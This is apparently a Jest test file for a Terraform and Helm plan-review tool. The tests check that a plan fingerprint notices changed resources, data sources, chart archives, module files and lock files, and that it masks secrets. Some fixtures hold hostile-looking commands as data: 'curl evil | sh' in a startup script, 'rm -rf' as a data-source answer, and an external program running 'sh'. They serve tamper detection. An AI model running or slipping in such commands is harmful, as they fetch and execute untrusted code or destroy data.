/** The plan fingerprint: what it covers, what it hides, and how a difference is told. */
import { describe, expect, it } from '@jest/globals';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { moduleDigests } from '../src/review/module-digest.js';
import {
  dataSourceLines,
  fingerprintDifferences,
  fingerprintMarker,
  planFingerprint,
  readFingerprintMarker,
  resourceChangeLines,
  type JsonResourceChange
} from '../src/review/fingerprint.js';

const PASSWORD = 'pg-canary-Qx81';
const sql = (tier: string, password = PASSWORD): JsonResourceChange => ({
  address: 'google_sql_database_instance.flyte',
  mode: 'managed',
  change: {
    actions: ['update'],
    after: { settings: [{ tier }], root_password: password, ip_address: null },
    after_unknown: { ip_address: true },
    after_sensitive: { root_password: true }
  }
});
const BASE = {
  dataSources: [] as string[],
  chartDigest: 'c'.repeat(64),
  moduleDigest: 'd'.repeat(64),
  lockDigest: 'e'.repeat(64)
};
const fingerprint = (
  changes: JsonResourceChange[],
  chart = 'v1.16.8',
  values = 'a'.repeat(64),
  parts: Partial<typeof BASE> = {}
) =>
  planFingerprint({
    ...BASE,
    ...parts,
    resources: resourceChangeLines(changes),
    chartVersion: chart,
    valuesDigest: values
  });

describe('plan fingerprint', () => {
  it('changes with a planned value, and the difference names the resource', () => {
    const reviewed = fingerprint([sql('db-custom-2-7680')]);
    const now = fingerprint([sql('db-custom-4-15360')]);
    expect(now.hex).not.toBe(reviewed.hex);
    expect(fingerprintDifferences(reviewed, now)).toEqual([
      'planned values differ from the reviewed plan: update google_sql_database_instance.flyte'
    ]);
  });

  it('never holds a sensitive value, so a marker in a comment cannot leak it', () => {
    const marker = fingerprintMarker(fingerprint([sql('db-custom-2-7680')]));
    expect(marker).not.toContain(PASSWORD);
    // Masked: the secret is not part of what reviewers can compare.
    expect(fingerprint([sql('db-custom-2-7680', 'other')]).hex).toBe(
      fingerprint([sql('db-custom-2-7680')]).hex
    );
  });

  it('ignores reads and no-ops, and sorts resources so order does not matter', () => {
    const read: JsonResourceChange = {
      address: 'data.google_project.p',
      mode: 'data',
      change: { actions: ['read'] }
    };
    const noop: JsonResourceChange = {
      address: 'google_storage_bucket.b',
      change: { actions: ['no-op'] }
    };
    const bucket: JsonResourceChange = {
      address: 'google_storage_bucket.c',
      change: { actions: ['create'], after: { name: 'c' } }
    };
    expect(fingerprint([sql('x'), read, noop, bucket]).hex).toBe(
      fingerprint([bucket, sql('x')]).hex
    );
    expect(resourceChangeLines([read, noop])).toEqual([]);
  });

  it('a chart or values difference is told as such', () => {
    const reviewed = fingerprint([], 'v1.16.8', 'a'.repeat(64));
    expect(fingerprintDifferences(reviewed, fingerprint([], 'v1.16.9', 'a'.repeat(64)))).toEqual([
      'chart version: reviewed v1.16.8, now v1.16.9'
    ]);
    expect(fingerprintDifferences(reviewed, fingerprint([], 'v1.16.8', 'b'.repeat(64)))[0]).toMatch(
      /^Helm values: reviewed aaaaaaaaaaaa, now bbbbbbbbbbbb/
    );
    expect(fingerprintDifferences(reviewed, reviewed)).toEqual([]);
  });

  it('round-trips through the hidden marker, even with `--` in an address', () => {
    const odd: JsonResourceChange = {
      address: 'module.a--b.google_storage_bucket.c',
      change: { actions: ['create'], after: {} }
    };
    const fp = fingerprint([odd]);
    const marker = fingerprintMarker(fp);
    expect(marker.slice(4, -3)).not.toContain('--');
    expect(readFingerprintMarker(`text\n${marker}\nmore`)).toEqual(fp);
    expect(readFingerprintMarker('no marker here')).toBeUndefined();
  });

  it('a different chart archive under the same version is told as such', () => {
    const reviewed = fingerprint([]);
    const swapped = fingerprint([], 'v1.16.8', 'a'.repeat(64), { chartDigest: 'f'.repeat(64) });
    expect(swapped.hex).not.toBe(reviewed.hex);
    expect(fingerprintDifferences(reviewed, swapped)).toEqual([
      'chart archive: reviewed SHA-256 cccccccccccc, now ffffffffffff'
    ]);
  });

  it('a marker from before the fingerprint covered the module differs from any current one', () => {
    const reviewed = fingerprint([]);
    const { dataSources, chartDigest, moduleDigest, lockDigest, ...old } = reviewed;
    void [dataSources, chartDigest, moduleDigest, lockDigest];
    const differences = fingerprintDifferences({ ...old, hex: 'old' } as typeof reviewed, reviewed);
    expect(differences).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^Terraform module files: reviewed none,/),
        expect.stringMatching(/^Terraform lock file: reviewed none,/)
      ])
    );
  });
});

describe('what the plan read: data sources', () => {
  const external = (answer: string, token = 'tok-canary-1') => ({
    resource_changes: [],
    prior_state: {
      values: {
        root_module: {
          resources: [
            { address: 'google_storage_bucket.b', mode: 'managed', values: { name: 'b' } },
            {
              address: 'data.external.probe',
              mode: 'data',
              values: { result: { answer }, token },
              sensitive_values: { token: true }
            }
          ],
          child_modules: [
            {
              resources: [
                {
                  address: 'module.net.data.google_compute_zones.z',
                  mode: 'data',
                  values: { names: ['a'] }
                }
              ]
            }
          ]
        }
      }
    }
  });

  it('an external program that answers differently changes the fingerprint and is named', () => {
    const reviewed = fingerprint([], 'v1.16.8', 'a'.repeat(64), {
      dataSources: dataSourceLines(external('harmless'))
    });
    const now = fingerprint([], 'v1.16.8', 'a'.repeat(64), {
      dataSources: dataSourceLines(external('rm -rf'))
    });
    expect(dataSourceLines(external('x'))).toHaveLength(2);
    expect(now.hex).not.toBe(reviewed.hex);
    expect(fingerprintDifferences(reviewed, now)).toEqual([
      'data source read differently: data.external.probe'
    ]);
  });

  it('masks sensitive values: they neither leak into the marker nor count', () => {
    const lines = dataSourceLines(external('same', 'tok-canary-2'));
    expect(lines.join('\n')).not.toContain('tok-canary');
    expect(lines).toEqual(dataSourceLines(external('same', 'tok-canary-3')));
  });

  it('counts data sources deferred to the apply', () => {
    const deferred = dataSourceLines({
      resource_changes: [
        { address: 'data.google_project.p', mode: 'data', change: { actions: ['read'] } }
      ]
    });
    expect(deferred).toEqual([
      expect.stringMatching(/^data\.google_project\.p \(read during apply\)#/)
    ]);
  });
});

describe('what the plan ran: the module and its lock file', () => {
  const module = () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'fp-module-'));
    writeFileSync(path.join(dir, 'main.tf'), 'resource "google_storage_bucket" "b" {}\n');
    mkdirSync(path.join(dir, 'templates'));
    writeFileSync(path.join(dir, 'templates', 'startup.sh'), 'echo hi\n');
    writeFileSync(
      path.join(dir, '.terraform.lock.hcl'),
      'provider "google" { version = "6.50.0" }\n'
    );
    return dir;
  };
  const digests = (dir: string, varFile?: string) =>
    moduleDigests({ terraformDir: dir, terraformVarFile: varFile });

  it('a changed .tf file or a file it reads changes the module digest, not the lock digest', () => {
    const dir = module();
    const before = digests(dir);
    writeFileSync(path.join(dir, 'main.tf'), 'data "external" "x" { program = ["sh"] }\n');
    const edited = digests(dir);
    expect(edited.module).not.toBe(before.module);
    expect(edited.lock).toBe(before.lock);
    writeFileSync(path.join(dir, 'templates', 'startup.sh'), 'curl evil | sh\n');
    expect(digests(dir).module).not.toBe(edited.module);
  });

  it('a new file and the var file count too', () => {
    const dir = module();
    const before = digests(dir).module;
    writeFileSync(path.join(dir, 'extra.tf'), '\n');
    expect(digests(dir).module).not.toBe(before);
    const vars = path.join(dir, '..', `${path.basename(dir)}.tfvars`);
    writeFileSync(vars, 'a = 1\n');
    const withVars = digests(dir, vars).module;
    writeFileSync(vars, 'a = 2\n');
    expect(digests(dir, vars).module).not.toBe(withVars);
  });

  it("a changed lock file changes the lock digest; Terraform's own folder does not count", () => {
    const dir = module();
    const before = digests(dir);
    mkdirSync(path.join(dir, '.terraform', 'providers'), { recursive: true });
    writeFileSync(path.join(dir, '.terraform', 'providers', 'x'), 'binary');
    expect(digests(dir)).toEqual(before);
    writeFileSync(
      path.join(dir, '.terraform.lock.hcl'),
      'provider "google" { version = "6.49.0" }\n'
    );
    const relocked = digests(dir);
    expect(relocked.lock).not.toBe(before.lock);
    expect(relocked.module).toBe(before.module);
    const reviewed = fingerprint([], 'v1.16.8', 'a'.repeat(64), { lockDigest: before.lock });
    const now = fingerprint([], 'v1.16.8', 'a'.repeat(64), { lockDigest: relocked.lock });
    expect(fingerprintDifferences(reviewed, now)).toEqual([
      expect.stringMatching(/^Terraform lock file: reviewed [0-9a-f]{12}, now [0-9a-f]{12}/)
    ]);
  });
});
